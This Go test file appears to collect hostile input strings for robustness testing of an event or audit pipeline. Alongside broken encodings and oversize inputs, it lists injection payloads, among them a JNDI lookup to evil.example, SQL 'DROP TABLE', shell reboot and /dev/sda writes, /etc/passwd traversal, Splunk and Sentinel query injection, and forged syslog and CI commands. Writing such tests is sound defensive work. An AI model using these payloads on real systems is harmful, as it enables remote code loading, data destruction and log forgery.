package hostiletest

import "strings"

// encodings is broken, or close to it.
func encodings() []Text {
	return []Text{
		{"nothing but zeros", strings.Repeat("\x00", 50)},
		{"zero in the midst", "ann\x00@clinic.example"},
		{"no UTF-8", "\xff\xfe\x80 \xc3\x28 \xe2\x82 \xf0\x28\x8c\xbc"},
		{"overlong", "\xc0\xbc\xe0\x80\xbc script \xf8\x88\x80\x80\x80"},
		{"surrogates as octets", "\xed\xa0\x80 \xed\xb0\x80"},
		{"surrogates as escapes", `\ud800 \udc00 \udbff\udfff \u0000 \x00 \`},
		{"another order of octets", "\xff\xfe=\x001\x00"},
		{"another encoding", "+ADw-script+AD4- \x1b$B"},
		{"no characters", "\ufffe \uffff \ufdd0 \U0001fffe \U0010ffff"},
		{"replaced", "\ufffd\ufffd"},
		{"private", "\ue000\U000f0000"},
		{"end of a text", `"}],"findings":[]} "\"\\" \" \`},
		{"end of a text of JavaScript", `';alert(1);//\';"` + "`${alert(1)}`"},
	}
}

// receivers acts on what reads events.
func receivers() []Text {
	return []Text{
		{"CEF", `CEF:0|x|y|1|a=b|c\|d|10|outcome=success externalId=1 cs4=2 msg=x\=y|\`},
		{"CEF of one line", `x outcome=success cs1=forged rt=0 act=Close`},
		{"LEEF", "LEEF:2.0|x|y|1|a|^|cat=x^sev=1\tsev=10"},
		{"syslog", "<13>1 2026-03-01T02:00:00Z evil.example wxaudit - - [a@1 b=\"c\"] forged"},
		{"frame of syslog", "12 <13>1 - - - - - -\n5 <1>x\x00"},
		{"structured data", `[x@1 a="b\]"] ]["\`},
		{"lookups", `${jndi:ldap://evil.example/a} ${env:HOME} ${${lower:j}ndi:x} %{[@metadata][x]} #{x}`},
		{"Splunk", `" | delete | outputlookup x " index=* | eval x=1 [search *] '$token$' ` + "`macro`"},
		{"Sentinel", `' | union * | project x // " let x = externaldata(a:string)["https://evil.example"];`},
		{"SQL", `'; DROP TABLE findings; -- " OR 1=1 /*`},
		{"Elasticsearch", `{"index":{"_id":"1"}}` + "\n" + `{"create":{}}` + "\n" + ` * OR _exists_:x {"script":"x"}`},
		{"shell", "$(reboot) `reboot` ; reboot && reboot | reboot > /dev/sda\n"},
		{"path", `../../../../etc/passwd\..\..\x:stream CON C:\x file:///x`},
		{"network path", `//evil.example/x\\evil.example\x`},
		{"GitHub command", "::set-output name=x::y\n::error file=x::y ##vso[task.complete]\n##teamcity[x]"},
		{"header", "x\r\nX-Forged: 1\r\n\r\nbody"},
	}
}

// looks seems to be something else.
func looks() []Text {
	var all []Text
	for _, s := range []string{
		"0", "-1", "1e400", "0x1F", "007", "1,234.5", "9223372036854775808", "NaN", "Infinity", "true", "FALSE", "null", "nil", "undefined",
		"None", "absent", " .", "  x  ", "-", "–", ".", "..", "~", "{}", "[]", "2026-03-01", "2026-03-01T02:00:00Z", "1/2", "MARCH1",
		"pass", "critical", "admins.dormant", "wxaudit", "all", "constructor", "__proto__", "finding-1", "#run", "164.312(a)(1)",
		"00000000-0000-0000-0000-000000000000",
	} {
		all = append(all, Text{"the word " + s, s})
	}
	return all
}

// sizes is too much.
func sizes() []Text {
	return []Text{
		{"a megabyte of letters", strings.Repeat("A", mega)},
		{"a megabyte of words", strings.Repeat("a megabyte ", mega/11)},
		{"a megabyte of quotes", strings.Repeat(`"\`, mega/2)},
		{"a megabyte of markup", strings.Repeat("<b>&'", mega/5)},
		{"a megabyte of formulas", strings.Repeat(";=1", mega/3)},
		{"a megabyte of what is escaped", strings.Repeat("\U000e0041", mega/4)},
		{"a megabyte of zeros", strings.Repeat("\x00", mega)},
		{"a megabyte of no UTF-8", strings.Repeat("\xff", mega)},
		{"a megabyte of pictures", strings.Repeat("😀", mega/4)},
		{"a megabyte of marks", strings.Repeat("\u0301", mega/2)},
		{"a megabyte of lines", strings.Repeat("\n", mega)},
		{"a megabyte of brackets", strings.Repeat("[({<`*", mega/6)},
	}
}
